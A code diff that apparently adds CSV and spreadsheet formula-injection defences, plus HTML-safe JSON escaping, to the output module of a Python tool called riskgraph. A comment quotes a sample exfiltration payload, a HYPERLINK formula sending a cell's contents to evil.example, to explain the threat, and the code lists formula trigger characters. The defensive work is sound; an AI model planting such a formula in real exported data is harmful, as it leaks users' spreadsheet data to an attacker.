@@ -5,8 +5,10 @@ stderr so that stdout stays clean data for pipes.
 """
 from __future__ import annotations
 
+import contextvars
 import json
 import math
+import re
 import sys
 from pathlib import Path
 
@@ -16,6 +18,138 @@ import pandas as pd
 from riskgraph.errors import InputError
 
 WRITABLE = (".csv", ".parquet", ".xlsx", ".json")
+
+# --------------------------------------------------------------------------- safe to open
+# Files riskgraph writes are opened by people in spreadsheet programs. A cell
+# whose text starts with "=", "+", "-" or "@" is read there as a formula
+# ("CSV injection" / "formula injection"): a supplier named
+# =HYPERLINK("http://evil.example/?x="&A1,"click") becomes a live link that
+# sends the neighbouring cell away. OWASP's guidance (https://owasp.org/www-community/attacks/CSV_Injection)
+# is to prefix such cells, and cells starting with TAB or CR, with a single
+# quote, which spreadsheet programs show as text. Workbooks need no prefix:
+# their cells are typed, and :func:`excel_writer` stores every text as text.
+
+#: First characters that make a spreadsheet program read a cell as a formula (OWASP).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"^[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?$")
+_RAW_CSV: contextvars.ContextVar[bool] = contextvars.ContextVar("riskgraph_raw_csv", default=False)
+#: xlsxwriter options of every workbook riskgraph writes: text stays text.
+XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
+
+
+def set_raw_csv(raw: bool) -> None:
+    """Write CSV cells as they are (``--raw-csv``): no quote before formula-like text."""
+    _RAW_CSV.set(bool(raw))
+
+
+def raw_csv() -> bool:
+    """Whether CSV cells are written raw (see :func:`set_raw_csv`)."""
+    return _RAW_CSV.get()
+
+
+def neutralise_cell(value):
+    """A CSV cell that no spreadsheet program runs as a formula (OWASP CSV-injection guidance).
+
+    Text starting with ``=``, ``+``, ``-``, ``@``, TAB or CR gets a leading
+    ``'``, unless it is a plain number (``-5``, ``+3.2e4``). Text that already
+    starts with quotes before such a character gets one more, so that
+    :func:`restore_cell` gives every value back exactly (the chain readers
+    call it: a chain written as CSV reads back equal).
+
+    >>> neutralise_cell("=1+1"), neutralise_cell("-5"), neutralise_cell("-5 t"), neutralise_cell("Acme")
+    ("'=1+1", '-5', "'-5 t", 'Acme')
+    """
+    if not isinstance(value, str) or not value:
+        return value
+    bare = value.lstrip("'")
+    if bare[:1] not in FORMULA_TRIGGERS or (len(bare) == len(value) and _NUMBER.match(value)):
+        return value
+    return "'" + value
+
+
+def restore_cell(value):
+    """The value :func:`neutralise_cell` was given: one leading ``'`` before formula-like text removed.
+
+    >>> restore_cell("'=1+1"), restore_cell("''=x"), restore_cell("'quoted'")
+    ('=1+1', "'=x", "'quoted'")
+    """
+    if isinstance(value, str) and value[:1] == "'" and value.lstrip("'")[:1] in FORMULA_TRIGGERS:
+        return value[1:]
+    return value
+
+
+def _neutralise_series(values: pd.Series) -> pd.Series:
+    if values.dtype.kind in "biufcmM":
+        return values
+    return values.map(neutralise_cell, na_action="ignore")
+
+
+def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
+    """The frame with every text cell and header passed through :func:`neutralise_cell`."""
+    out = frame.copy()
+    for position in range(out.shape[1]):
+        out.isetitem(position, _neutralise_series(out.iloc[:, position]))
+    out.columns = [neutralise_cell(c) if isinstance(c, str) else c for c in out.columns]
+    if out.index.dtype == object:
+        out.index = out.index.map(neutralise_cell)
+    return out
+
+
+def _has_lone_cr(frame: pd.DataFrame) -> bool:
+    texts = [frame[c] for c in frame.columns if frame[c].dtype.kind not in "biufcmM"]
+    return any(values.astype("string").str.contains("\r", regex=False).fillna(False).any() for values in texts) \
+        or any("\r" in str(c) for c in frame.columns)
+
+
+def write_csv(frame: pd.DataFrame, target, *, index: bool = False, raw: bool | None = None) -> None:
+    """Write a frame as CSV that is safe to open in a spreadsheet program and reads back the same.
+
+    Parameters
+    ----------
+    frame : DataFrame
+    target : path or text stream
+    index : bool
+        Write the index as the first column.
+    raw : bool, optional
+        Write cells as they are; default: the ``--raw-csv`` setting
+        (:func:`set_raw_csv`), off unless asked for.
+
+    Notes
+    -----
+    Formula-like text gets a leading ``'`` (:func:`neutralise_cell`). Cells
+    holding a line break are quoted; when some cell holds a lone carriage
+    return the lines end in CRLF (RFC 4180), because Python's CSV writer only
+    quotes the characters of its line terminator.
+    """
+    raw = raw_csv() if raw is None else raw
+    shown = frame if raw else csv_safe(frame)
+    terminator = "\r\n" if _has_lone_cr(frame) else "\n"
+    if isinstance(target, (str, Path)):
+        Path(target).parent.mkdir(parents=True, exist_ok=True)
+    shown.to_csv(target, index=index, lineterminator=terminator)
+
+
+def excel_writer(path: Path | str) -> pd.ExcelWriter:
+    """A ``pd.ExcelWriter`` (xlsxwriter) that writes every text as text, never as a formula or link.
+
+    xlsxwriter turns strings starting with ``=`` into formulas and URL-like
+    strings into hyperlinks by default; every workbook riskgraph writes goes
+    through here so that a supplier name cannot become a live formula.
+    """
+    return pd.ExcelWriter(path, engine="xlsxwriter", engine_kwargs={"options": dict(XLSX_OPTIONS)})
+
+
+def json_for_html(value) -> str:
+    """JSON text to embed in an HTML ``<script>``: ``<``, ``>``, ``&`` and line separators as ``\\u`` escapes.
+
+    ``</script>`` would end the script and ``<!--<script>`` would switch
+    the HTML parser into a state where the real ``</script>`` no longer
+    ends it (HTML Living Standard, "script data double escaped state");
+    escaped, neither can occur, and ``JSON.parse`` reads the same data.
+    """
+    text = json.dumps(to_jsonable(value), ensure_ascii=False)
+    return (text.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
+            .replace("\u2028", "\\u2028").replace("\u2029", "\\u2029"))
 
 
 def stderr(message: str) -> None:
@@ -54,7 +188,7 @@ def print_json(value) -> None:
 def emit_table(frame: pd.DataFrame, *, title: str | None = None, fmt: str = "table", floatfmt: str = "{:.4g}") -> None:
     """Print a DataFrame as a rich table (``table``), CSV or JSON records on stdout."""
     if fmt == "csv":
-        frame.to_csv(sys.stdout, index=False)
+        write_csv(frame, sys.stdout)
         return
     if fmt == "json":
         print_json(frame)
@@ -90,11 +224,11 @@ def write_frame(frame: pd.DataFrame, path: Path | str, *, sheet: str = "data") -
         raise InputError(f"cannot write '{suffix or path.name}': use one of {', '.join(WRITABLE)}", path=path)
     path.parent.mkdir(parents=True, exist_ok=True)
     if suffix == ".csv":
-        frame.to_csv(path, index=False)
+        write_csv(frame, path)
     elif suffix == ".parquet":
         frame.to_parquet(path, index=False)
     elif suffix == ".xlsx":
-        with pd.ExcelWriter(path, engine="xlsxwriter") as writer:
+        with excel_writer(path) as writer:
             frame.to_excel(writer, sheet_name=sheet[:31], index=False)
     else:
         path.write_text(json.dumps(to_jsonable(frame), ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
